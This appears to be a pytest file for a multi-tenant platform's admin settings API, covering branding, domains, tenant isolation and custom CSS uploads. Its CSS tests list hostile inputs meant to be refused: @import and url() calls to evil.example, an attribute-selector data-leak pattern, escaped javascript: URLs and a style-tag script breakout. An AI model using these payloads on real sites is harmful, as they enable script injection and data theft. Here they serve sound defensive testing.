"""A firm's admins edit its settings: name, colours (with a contrast warning), a font from
the safe list, support e-mail, allowed origins and domains (unique across firms) — each
refusal a 422 naming the field; one firm's admin never reaches another firm."""

from __future__ import annotations

from typing import Any

from tests.gateway.conftest import Gateway


def staff(gateway: Gateway, role: str, host: str = "127.0.0.1") -> str:
    address = f"{role}@{host.replace(':', '-')}.example.com"
    gateway.verified_user(address, headers={"Host": host})
    gateway.promote(address, role)
    return str(gateway.login(address, headers={"Host": host})["access_token"])


def put(gateway: Gateway, body: Any, token: str | None, host: str | None = None):
    return gateway.request("PUT", "/api/v1/admin/tenant", token, json=body,
                           headers={"Host": host} if host else {})


def add_firm(gateway: Gateway, slug: str, domain: str) -> None:
    gateway.sql("INSERT INTO tenants (slug, name) VALUES ($1, $2)", slug, slug.title())
    gateway.sql("INSERT INTO tenant_domains (domain, tenant_id) "
                "SELECT $1, id FROM tenants WHERE slug = $2", domain, slug)


SETTINGS = {"branding": {"name": "Acme Funding", "primary_color": "#1d4ed8",
                         "accent_color": "#b45309", "font": "serif",
                         "support_email": "help@acme.example"},
            "cors_origins": ["https://app.acme.example"],
            "domains": ["trade.acme.example", "acme.example"]}


def test_admin_reads_and_changes_the_firms_settings(gateway: Gateway) -> None:
    admin = staff(gateway, "admin")
    before = gateway.get("/api/v1/admin/tenant", admin)
    assert before.status_code == 200, before.text
    assert before.json()["branding"]["name"] == "PropTrade"
    answer = put(gateway, SETTINGS, admin)
    assert answer.status_code == 200, answer.text
    out = answer.json()
    assert out["branding"]["font"] == "serif"
    assert out["domains"] == ["trade.acme.example", "acme.example"]  # primary first
    assert out["cors_origins"] == ["https://app.acme.example"]
    assert out["warnings"] == []
    assert gateway.get("/api/v1/admin/tenant", admin).json()["domains"] == out["domains"]
    theme = gateway.get("/theme.css").text
    assert "--brand: #1d4ed8" in theme and "--font-sans: Charter," in theme
    # served at its new domain; a body without domains leaves them alone
    assert gateway.get("/api/v1/tenant", headers={"Host": "acme.example"}).json()[
        "name"] == "Acme Funding"
    kept = put(gateway, {"branding": {"name": "Acme"}, "cors_origins": []}, admin)
    assert kept.json()["domains"] == out["domains"]
    # the change is audited
    actions = [row["action"] for row in gateway.sql("SELECT action FROM audit_log")]
    assert "tenant.update" in actions


def test_a_pale_primary_colour_is_saved_with_a_warning(gateway: Gateway) -> None:
    admin = staff(gateway, "admin")
    answer = put(gateway, {"branding": {"name": "Pale", "primary_color": "#fde68a"}}, admin)
    assert answer.status_code == 200
    [warning] = answer.json()["warnings"]
    assert warning["path"] == "$.branding.primary_color"
    assert "contrast of 1.2:1, below the 4.5:1" in warning["message"]


def test_bad_settings_are_refused_naming_the_field(gateway: Gateway) -> None:
    admin = staff(gateway, "admin")
    add_firm(gateway, "beta", "beta.example")
    cases = [
        ({"branding": {"name": "X", "primary_color": "blue"}}, "$.branding.primary_color"),
        ({"branding": {"name": "X", "font": "Comic Sans"}}, "$.branding.font"),
        ({"branding": {"name": "X", "font": "https://fonts.example/x.woff2"}},
         "$.branding.font"),
        ({"branding": {"name": "X", "support_email": "not an address"}},
         "$.branding.support_email"),
        ({"branding": {"name": "X"}, "cors_origins": ["javascript:alert(1)"]},
         "$.cors_origins[0]"),
        ({"branding": {"name": "X"}, "domains": ["ok.example", "bad_host!"]}, "$.domains[1]"),
        ({"branding": {"name": "X"}, "domains": ["beta.example"]}, "$.domains[0]"),
        ({"branding": {"name": "X"}, "domains": ["localhost"]}, "$.domains[0]"),
        ({"branding": {"name": "X"}, "domains": ["a.example", "a.example"]}, "$.domains[1]"),
    ]
    for body, path in cases:
        answer = put(gateway, body, admin)
        assert answer.status_code == 422, (body, answer.text)
        assert [f["path"] for f in answer.json()["error"]["fields"]] == [path], answer.text
    taken = put(gateway, {"branding": {"name": "X"}, "domains": ["beta.example"]}, admin)
    assert "another firm's domain" in taken.json()["error"]["message"]
    assert gateway.get("/api/v1/tenant").json()["name"] == "PropTrade"  # nothing saved


def test_only_a_firms_own_admins_change_it(gateway: Gateway) -> None:
    add_firm(gateway, "beta", "beta.example")
    trader, risk = staff(gateway, "trader"), staff(gateway, "risk")
    assert gateway.get("/api/v1/admin/tenant").status_code == 401
    for token in (trader, risk):
        assert gateway.get("/api/v1/admin/tenant", token).status_code == 404
        assert put(gateway, SETTINGS, token).status_code == 404
    admin = staff(gateway, "admin")
    # firm A's admin token at firm B's host is not a session there
    assert put(gateway, SETTINGS, admin, host="beta.example").status_code == 401
    assert gateway.get("/api/v1/admin/tenant", admin,
                       headers={"Host": "beta.example"}).status_code == 401
    beta = staff(gateway, "admin", "beta.example")
    answer = put(gateway, {"branding": {"name": "Beta Capital", "primary_color": "#0b7a3e"}},
                 beta, host="beta.example")
    assert answer.status_code == 200, answer.text
    assert answer.json()["domains"] == ["beta.example"]
    assert gateway.get("/api/v1/tenant").json()["name"] == "PropTrade"  # A untouched
    mine = gateway.get("/api/v1/admin/tenant", beta, headers={"Host": "beta.example"})
    assert mine.json()["slug"] == "beta"


# -- the firm's own CSS -------------------------------------------------------------------

REFUSED = [
    ("@import url(https://evil.example/x.css);", "import"),
    ("@import 'https://evil.example/x.css';", "import"),
    ("@\\69mport url(https://evil.example/x.css);", "import"),  # an escape is decoded first
    ("@charset 'utf-8'; a { color: red }", "charset"),
    ("@namespace svg url(http://www.w3.org/2000/svg);", "namespace"),
    ("@font-face { font-family: X; src: url(https://fonts.example/x.woff2) }", "font-face"),
    ("@font-face { font-family: X; src: local(Arial) }", "font-face"),
    ("@page { margin: 0 }", "at-rule"),
    ("input[value^=a] { background: url(https://evil.example/?a) }", "url"),
    ("a { background: url('//evil.example/x.png') }", "url"),
    ("a { background: u\\72l(https://evil.example/x.png) }", "url"),
    ("a { background: image-set('https://evil.example/x.png' 1x) }", "image-set"),
    ("a { width: expression(alert(1)) }", "expression"),
    ("a { background: url(javascript:alert(1)) }", "javascript"),
    ("a { background: url('java\\73 cript:alert(1)') }", "javascript"),  # escaped
    ("a { background: url(https://evil.example/(x) }", "syntax"),  # a bad url(
    ("a { behavior: url(/brand/logo.png) }", "binding"),
    ("a { -moz-binding: url(/brand/logo.png) }", "binding"),
    ("a { color: red } </style><script>alert(1)</script>", "style-end"),
    ("@media screen { a { background: url(https://evil.example/m) } }", "url"),
    ("a { color: red; & b { background: url(https://evil.example/n) } }", "url"),
]


def test_refused_css_names_the_rule(gateway: Gateway) -> None:
    admin = staff(gateway, "admin")
    for css, rule in REFUSED:
        for path, method in (("/api/v1/admin/tenant/css", "PUT"),
                             ("/api/v1/admin/tenant/css/check", "POST")):
            answer = gateway.request(method, path, admin, json={"css": css})
            assert answer.status_code == 422, (css, answer.text)
            error = answer.json()["error"]
            assert error["code"] == "css_refused"
            assert f"refused by the rule '{rule}'" in error["message"], (css, error)
            assert error["fields"][0]["path"] == "$.css"
    too_big = gateway.request("PUT", "/api/v1/admin/tenant/css", admin,
                              json={"css": "a{color:red}" * 3000})
    assert too_big.status_code == 422
    assert "refused by the rule 'size'" in too_big.json()["error"]["message"]
    assert gateway.get("/brand.css").status_code == 404  # nothing was stored
    assert gateway.get("/api/v1/admin/tenant/css", admin).json() == {"css": "", "url": ""}


def test_admin_css_is_served_as_the_firms_stylesheet(gateway: Gateway) -> None:
    admin = staff(gateway, "admin")
    css = ("@media (min-width: 40rem) { header { border-bottom: 4px solid #b4121b } }\n"
           ".card { background: url(/brand/logo.png?v=0123abcd) no-repeat; }\n"
           "body { font-weight: 450 }")
    checked = gateway.request("POST", "/api/v1/admin/tenant/css/check", admin,
                              json={"css": css})
    assert checked.status_code == 200 and gateway.get("/brand.css").status_code == 404
    answer = gateway.request("PUT", "/api/v1/admin/tenant/css", admin, json={"css": css})
    assert answer.status_code == 200, answer.text
    url = answer.json()["url"]
    assert url.startswith("/brand.css?v=")
    served = gateway.get(url)
    assert served.text == css and served.headers["Content-Type"].startswith("text/css")
    assert "immutable" in served.headers["Cache-Control"]
    page = gateway.get("/dashboard")
    assert f'<link rel="stylesheet" href="{url}" />' in page.text
    # the pages' policy is unchanged: styles from the site and the nonce only
    assert "style-src 'self' 'nonce-" in page.headers["Content-Security-Policy"]
    assert "unsafe-inline" not in page.headers["Content-Security-Policy"]
    assert gateway.get("/api/v1/admin/tenant/css", admin).json() == {"css": css, "url": url}
    # empty removes it
    gone = gateway.request("PUT", "/api/v1/admin/tenant/css", admin, json={"css": ""})
    assert gone.json() == {"css": "", "url": ""}
    assert gateway.get("/brand.css").status_code == 404
    assert "/brand.css" not in gateway.get("/dashboard").text


def test_only_the_firms_admins_set_its_css(gateway: Gateway) -> None:
    add_firm(gateway, "beta", "beta.example")
    risk = staff(gateway, "risk")
    body = {"css": "body { color: #111 }"}
    assert gateway.request("PUT", "/api/v1/admin/tenant/css", None, json=body
                           ).status_code == 401
    assert gateway.request("PUT", "/api/v1/admin/tenant/css", risk, json=body
                           ).status_code == 404
    beta = staff(gateway, "admin", "beta.example")
    assert gateway.request("PUT", "/api/v1/admin/tenant/css", beta, json=body,
                           headers={"Host": "beta.example"}).status_code == 200
    assert gateway.get("/brand.css", headers={"Host": "beta.example"}).text == body["css"]
    assert gateway.get("/brand.css").status_code == 404  # the default firm has none
